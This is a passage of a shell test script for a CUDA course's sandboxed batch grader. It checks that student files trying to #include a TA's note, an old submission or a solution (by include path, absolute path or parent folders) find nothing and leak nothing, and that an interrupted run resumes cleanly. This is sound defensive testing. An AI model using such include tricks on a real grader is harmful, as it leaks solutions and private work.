	bt_snoop xena sum "../$bt_v/sum.cu" "victor's, through -Icommon"
	bt_snoop xena argmax "$bt_r/$bt_v/argmax.cu" "victor's, absolute"
	bt_snoop yuri sum "$bt_up/$bt_v/sum.cu" "victor's, up from here"
	bt_snoop yuri argmax "$bt_up/solutions/05-reduction/argmax.cu" \
		"a solution, up from here"
}

# bt_secrets DIR...: the files under DIR that hold a secret word
bt_secrets() {
	grep -rlF -e "$bt_note" -e "$bt_old" -e "$bt_sol" "$@" 2> /dev/null
}

# bt_inputs_batch: the batch on hw2, in that repository, in the sandbox.
# Each snooping file is a COMPILE ERROR whose log says its file is not
# there (the sandbox's doing: a compile check would name the file), and
# no file the batch wrote holds a secret word.
bt_inputs_batch() {
	bt_il=$LOGS/batch-inputs.log
	bt_io=$bt_r/hw2-graded
	"$bt_bin" --repo "$bt_r" --build "$BUILD" --objs "$B" --sm "$bt_sm" \
		--build-only --lab 05-reduction --submissions "$bt_r/hw2-submissions" \
		--out "$bt_io" >> "$bt_il" 2>&1
	bt_rc=$?
	bt_ok=1
	for s in uma walt xena yuri; do
		grep -q "^$s,COMPILE_ERROR,COMPILE_ERROR," "$bt_io/verdicts.csv" || bt_ok=0
		for e in sum argmax; do
			grep -q 'No such file or directory' \
				"$bt_io/students/$s/logs/05-reduction/$e.log" || bt_ok=0
		done
	done
	bt_leaks=$(bt_secrets "$bt_io")
	if [ $bt_rc -eq 0 ] && [ $bt_ok = 1 ] && [ -z "$bt_leaks" ]; then
		pass "batch/inputs: 8 files that #include a TA's note, last term's submission or a solution in the repository folder (through the include path, absolute, up from their own folder) are COMPILE ERRORs that find nothing; no report, log or gradebook holds a word of them"
	else
		{ echo "status $bt_rc; files holding a secret:"; echo "$bt_leaks"
		  cat "$bt_io/verdicts.csv"; } >> "$bt_il" 2>&1
		fail "batch/inputs: a submission's #include of the note, an old submission or a solution finds nothing" "$bt_il"
	fi
}

# bt_inputs_pp: the sandbox alone, whatever the build rule checks. Each
# file is preprocessed as a rule with no check of its own would (nvcc -E
# from the repository's root, -Icommon -Ilabs/05-reduction), in the
# sandbox, then outside, where it must find what it names (so that the
# check is real). <scratch>/src-<id>/05-reduction/ lies five folders below
# $bt_r, as a submission's own folder does.
bt_inputs_pp() {
	bt_pp=$bt_r/pp/work/probe
	bt_pl=$LOGS/batch-inputs-pp.log
	bt_nvcc=${NVCC:-$(command -v nvcc || echo /usr/local/cuda/bin/nvcc)}
	mkdir -p "$bt_pp"
	for s in uma walt xena yuri; do
		cp -R "$bt_r/hw2-submissions/$s" "$bt_pp/src-$s"
	done
	# (its output in the scratch folder itself, the one the sandbox
	# account may write)
	cat > "$bt_pp/pp.sh" << 'EOF'
for f in "$2"/src-*/05-reduction/*.cu; do
	o=$2/$(basename "$(dirname "$(dirname "$f")")")-$(basename "$f" .cu)
	if "$1" -E -std=c++17 -Icommon -Ilabs/05-reduction "$f" -o "$o.i" \
		> "$o.err" 2>&1; then
		echo "found $f"
	else
		echo "missing $f: $(grep -c 'No such file or directory' "$o.err")"
	fi
done
EOF
	"$bt_bin" --sandbox-exec --scratch "$bt_pp" --repo "$bt_r" --build "$BUILD" \
		--objs "$B" --build-only --cuda "$(dirname "$(dirname "$bt_nvcc")")" \
		-- sh "$bt_pp/pp.sh" "$bt_nvcc" "$bt_pp" > "$bt_pl" 2>&1
	bt_leaks=$(bt_secrets "$bt_pp")
	if [ "$(grep -c '^missing .*: [1-9]' "$bt_pl")" -eq 8 ] && [ -z "$bt_leaks" ]; then
		pass "batch/inputs: the sandbox alone, whatever the build rule checks: the same 8 #includes, preprocessed in it with -Icommon -Ilabs/05-reduction, find no file"
	else
		echo "files holding a secret: $bt_leaks" >> "$bt_pl"
		fail "batch/inputs: the sandbox alone: the 8 #includes, preprocessed in it, find no file" "$bt_pl"
	fi
	(cd "$bt_r" && sh "$bt_pp/pp.sh" "$bt_nvcc" "$bt_pp") > "$bt_pl.open" 2>&1
	if [ "$(grep -c '^found ' "$bt_pl.open")" -eq 8 ] &&
	   [ "$(bt_secrets "$bt_pp" | grep -c '\.i$')" -eq 8 ]; then
		pass "batch/inputs: the same preprocessing outside the sandbox finds all 8, and prints the note, victor's kernel and the solution (the check above is real)"
	else
		fail "batch/inputs: outside the sandbox, the same 8 #includes find their files" "$bt_pl.open"
	fi
}

bt_inputs() {
	if [ -n "$bt_off" ]; then
		skip "batch/inputs: the sandbox shows the repository's build inputs alone: no sandbox here ($box_why)"
		return
	fi
	if ! bt_inputs_setup > "$LOGS/batch-inputs.log" 2>&1; then
		fail "batch/inputs: a course's repository folder is made" "$LOGS/batch-inputs.log"
		return
	fi
	bt_sm=$(basename "$B" | sed 's/^sm//; s/-/ /g')
	bt_inputs_batch
	bt_inputs_pp
}

# Every published folder is whole, and nothing half-made is left.
bt_whole() {
	for d in "$bt_out"/students/*; do
		[ -f "$d/meta" ] && [ -f "$d/results.tsv" ] || return 1
	done
	! ls -a "$bt_out/students" | grep -q '^\.tmp-\|^\.old-'
}

bt_resume() {
	cp "$bt_out/gradebook.csv" "$bt_dir/gradebook.first"
	bt_make "$LOGS/batch-again.log"
	if grep -q '13 graded before (not graded again), 0 to' "$LOGS/batch-again.log" &&
	   cmp -s "$bt_out/gradebook.csv" "$bt_dir/gradebook.first"; then
		pass "batch/a second run grades nothing again and keeps the gradebook"
	else
		fail "batch/a second run grades nothing again" "$LOGS/batch-again.log"
	fi

	# Four to grade again; interrupt after the first is back.
	bt_keep=$(stat -c %Y "$bt_out/students/erin/meta")
	rm -rf "$bt_out/students/alice" "$bt_out/students/bob" \
		"$bt_out/students/carol" "$bt_out/students/dave"
	sleep 1
	# A command started with & by a script ignores SIGINT (so would make,
	# which then exits 2); a terminal's make does not: as there, SIGINT
	# is left to its default.
	bt_pre=""
	if env --default-signal=INT true 2> /dev/null; then
		bt_pre="env --default-signal=INT"
	fi
	bt_make "$LOGS/batch-interrupted.log" JOBS=1 &
	bt_mpid=$!
	bt_pre=""
	bt_back=0
	for _ in $(seq 600); do
		bt_back=$(ls "$bt_out/students" | grep -c '^alice$\|^bob$\|^carol$\|^dave$')
		[ "$bt_back" -ge 1 ] && break
		sleep 0.2
	done
	bt_pid=$(cat "$bt_out/batch.pid" 2> /dev/null)
	[ -n "$bt_pid" ] && kill -INT "$bt_pid"
	wait "$bt_mpid"
	bt_irc=$?
	bt_back=$(ls "$bt_out/students" | grep -c '^alice$\|^bob$\|^carol$\|^dave$')
	bt_make "$LOGS/batch-resumed.log" JOBS=1
	# (without env --default-signal, make's status cannot be 130 here)
	[ -n "$(env --default-signal=INT echo y 2> /dev/null)" ] || bt_irc=130
	if grep -q 'interrupted' "$LOGS/batch-interrupted.log" && [ "$bt_irc" -eq 130 ] &&
	   [ "$bt_back" -ge 1 ] && [ "$bt_back" -le 3 ] &&
	   grep -q "$((9 + bt_back)) graded before (not graded again), $((4 - bt_back)) to" \
		"$LOGS/batch-resumed.log" &&
	   [ "$(stat -c %Y "$bt_out/students/erin/meta")" = "$bt_keep" ] && bt_whole &&
	   sh tests/batch/compare.sh --build-only tests/batch/expected "$bt_out" \
		>> "$LOGS/batch-resumed.log" 2>&1; then
		pass "batch/interrupted, make batch exits 130 and resumes where it stopped: no half-written result, finished students not graded again"
	else
		echo "back before the interrupt: $bt_back of 4; make batch's status: $bt_irc (130 wanted)" >> "$LOGS/batch-resumed.log"
		cat "$LOGS/batch-interrupted.log" >> "$LOGS/batch-resumed.log"
		fail "batch/interrupted, it resumes where it stopped" "$LOGS/batch-resumed.log"
	fi
}

bt_main() {
	if [ ! -f tools/batch/main.c ]; then
		skip "batch: tools/batch is not in this tree (the student handout)"
		return
	fi
	for t in tar gzip zip unzip; do
		if ! command -v $t > /dev/null; then
			skip "batch: needs tar, gzip, zip and unzip ($t is missing: apt-get install zip unzip)"
			return
		fi
	done
	rm -rf "$bt_dir"
	mkdir -p "$bt_dir"
	# The sandbox check runs the batch tool itself: on a fresh clone it
	# does not exist until built (it used to skip with "not found").
	if ! $MAKE --no-print-directory BUILD="$BUILD" "$bt_bin" \
		> "$LOGS/batch-build.log" 2>&1; then
		fail "batch: the batch tool builds" "$LOGS/batch-build.log"
		return
	fi
	bt_off=""
	if ! can_box "$bt_dir/check" "$LOGS/batch-sandbox-check.log"; then
		bt_off=1
		skip "batch/a sandbox can be made here: $box_why (the class is graded with SANDBOX=off, so that the rest is still tested)"
	fi
	# BATCH_ONLY="resubmit ..." runs those self-contained checks alone
	# (tests/mutate.sh: a planted bug's test in seconds, not minutes).
	if [ -n "${BATCH_ONLY:-}" ]; then
		for t in $BATCH_ONLY; do
			"bt_$t"
		done
		return
	fi
	if BUILD="$BUILD" MAKE="$MAKE" SANDBOX=${bt_off:+off} sh tests/batch/class.sh \
		--build-only "$bt_dir" > "$LOGS/batch-class.log" 2>&1; then
		pass "batch/13 generated submissions (folders, .tar.gz, .zip; broken, hostile, malicious) build and check into the gradebook of tests/batch/expected${bt_off:+ (UNSANDBOXED)}"
	else
		fail "batch/13 generated submissions build and check into the gradebook of tests/batch/expected" \
			"$LOGS/batch-class.log"
		return
	fi
	bt_sandbox
	bt_boxed=$?
	bt_hostile
	bt_inputs
	bt_default
	bt_loud
	bt_agree
	bt_classroom
	bt_resubmit
	bt_class_batch
	bt_audit
	bt_resume
	[ $bt_boxed -eq 0 ] && bt_control
	# (after the control: its listener lives 300 s from bt_sandbox on)
	bt_instructor
}

bt_main
